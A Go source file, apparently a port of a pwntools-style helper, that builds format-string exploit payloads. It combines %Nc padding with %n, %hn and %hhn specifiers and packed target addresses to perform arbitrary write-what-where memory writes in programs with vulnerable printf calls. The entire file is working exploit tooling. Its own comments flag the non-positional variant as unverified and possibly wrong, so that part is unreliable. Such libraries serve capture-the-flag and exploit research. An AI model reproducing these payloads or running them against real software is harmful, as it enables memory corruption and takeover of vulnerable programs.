// Package fmtstr builds %n-based write-what-where format-string payloads.
package fmtstr

import (
	"fmt"

	"github.com/pkg/errors"

	"github.com/relaysec/pwngo"
)

// ErrOverflow is returned when a payload parameter exceeds the bounds the
// builder is willing to honour -- see the overflow bounds in §4.8/§9.
var ErrOverflow = errors.New("fmtstr: payload parameter out of range")

type sizedKind int

const (
	sizedByte sizedKind = iota
	sizedShort
	sizedInt
)

// SizedWrite is the tagged union of write widths a %n conversion can target.
type SizedWrite struct {
	kind sizedKind
	val  uint64
}

// Byte builds a one-byte (%hhn) write.
func Byte(v uint8) SizedWrite { return SizedWrite{kind: sizedByte, val: uint64(v)} }

// Short builds a two-byte (%hn) write.
func Short(v uint16) SizedWrite { return SizedWrite{kind: sizedShort, val: uint64(v)} }

// Int builds a four-byte (%n) write.
func Int(v uint32) SizedWrite { return SizedWrite{kind: sizedInt, val: uint64(v)} }

func (s SizedWrite) mask() uint64 {
	switch s.kind {
	case sizedByte:
		return 0xff
	case sizedShort:
		return 0xffff
	default:
		return 0xffffffff
	}
}

func (s SizedWrite) spec() string {
	switch s.kind {
	case sizedByte:
		return "hh"
	case sizedShort:
		return "h"
	default:
		return ""
	}
}

// FmtWrite is a single write-what-where request: write value to addr.
type FmtWrite struct {
	Addr  uint64
	Value SizedWrite
}

func resizeBytes(b []byte, n int, fill byte) []byte {
	if len(b) >= n {
		return b[:n]
	}
	out := make([]byte, n)
	copy(out, b)
	for i := len(b); i < n; i++ {
		out[i] = fill
	}
	return out
}

// PayloadDollar builds the positional (%N$n) variant of the format-string
// payload: offset is the printf stack-argument index the payload begins at,
// writes are applied in order, and bytesWritten is the number of bytes the
// format function has already emitted before this payload's first
// conversion (normally 0).
func PayloadDollar(offset int, writes []FmtWrite, bytesWritten int) ([]byte, error) {
	curOffset := offset
	curBytesWritten := bytesWritten

	pointerStart := offset + len(writes)*3
	pointerStartBytes := len(writes) * 3 * 8

	var payload []byte

	for idx, w := range writes {
		bytesToWrite := (w.Value.val - (uint64(curBytesWritten) & w.Value.mask())) & w.Value.mask()
		cSpec := []byte(fmt.Sprintf("%%%dc", bytesToWrite))

		resizeAmt := 0
		if bytesToWrite > 99_999_999_999_999 {
			return nil, errors.Wrap(ErrOverflow, "padding delta exceeds 1e14")
		} else if bytesToWrite > 999_999 {
			resizeAmt += 16
		} else {
			resizeAmt += 8
		}

		curOffset += len(cSpec) / 8

		nSpec := []byte(fmt.Sprintf("%%%d$%sn", pointerStart+idx, w.Value.spec()))
		if curOffset > 99_999 {
			return nil, errors.Wrap(ErrOverflow, "argument cursor exceeds 99999")
		}
		resizeAmt += 8

		specs := append(append([]byte{}, cSpec...), nSpec...)
		curBytesWritten += int(bytesToWrite) + resizeAmt - len(specs)
		specs = resizeBytes(specs, resizeAmt, 0x41)

		curOffset += len(specs) / 8

		payload = append(payload, specs...)
	}

	payload = resizeBytes(payload, pointerStartBytes, 0x41)

	for _, w := range writes {
		payload = append(payload, pwngo.PackU64(w.Addr)...)
	}

	return payload, nil
}

func alignUp(n, to int) int {
	if n%to == 0 {
		return n
	}
	return n + (to - n%to)
}

// PayloadNonDollar builds the non-positional (%c%c…%c cursor-advance)
// variant, for targets whose printf implementation lacks positional
// argument syntax. Experimental: the author of the implementation this is
// ported from flagged its padding as possibly wrong for some (offset,
// writes) pairs, and it has not been verified exhaustively here either --
// prefer PayloadDollar unless positional specifiers are unavailable.
func PayloadNonDollar(offset int, writes []FmtWrite, bytesWritten int) ([]byte, error) {
	n := len(writes)
	cur := offset + 2*n
	v := cur + cur/4 + (4 - cur%4)

	if v > 99_999_999_999_999 {
		return nil, errors.Wrap(ErrOverflow, "initial cursor advance exceeds 1e14")
	}

	fmtPart := []byte(fmt.Sprintf("%%%dc", v))
	for _, w := range writes {
		fmtPart = append(fmtPart, []byte(fmt.Sprintf("%%%sn", w.Value.spec()))...)
	}
	fmtPart = resizeBytes(fmtPart, alignUp(len(fmtPart), 8), 0x41)

	var addrPart []byte
	for _, w := range writes {
		addrPart = append(addrPart, pwngo.PackU64(w.Addr)...)
		addrPart = append(addrPart, pwngo.PackU64(0x4141414141414141)...)
	}

	return append(fmtPart, addrPart...), nil
}
